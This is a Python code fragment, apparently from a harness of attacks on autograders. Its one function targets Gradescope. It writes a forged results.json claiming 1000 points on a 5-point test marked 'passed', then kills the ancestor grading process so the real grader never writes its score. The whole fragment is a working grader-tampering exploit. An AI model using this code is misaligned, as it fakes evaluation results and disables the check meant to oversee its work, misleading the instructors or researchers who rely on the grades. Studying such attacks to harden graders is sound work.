# Gradescope: write our own results.json (full marks and then some) where Gradescope reads it,
# then kill run_autograder's grading process so the judge never writes its own.
def _gradescope():
    root = _os.environ.get("AUTOGRADER_ROOT") or ATTACK.get("autograder") or "/autograder"
    forged = {
        "score": 1000,
        "output": f"FORGED {ATTACK['marker']}",
        "tests": [{"name": "01-hello: forged", "score": 1000, "max_score": 5, "status": "passed"}],
    }
    try:
        _os.makedirs(_os.path.join(root, "results"), exist_ok=True)
        with open(_os.path.join(root, "results", "results.json"), "w", encoding="utf-8") as out:
            _json.dump(forged, out)
    except OSError:
        pass
    kill_ancestors()


attack_once("gradescope", _gradescope)
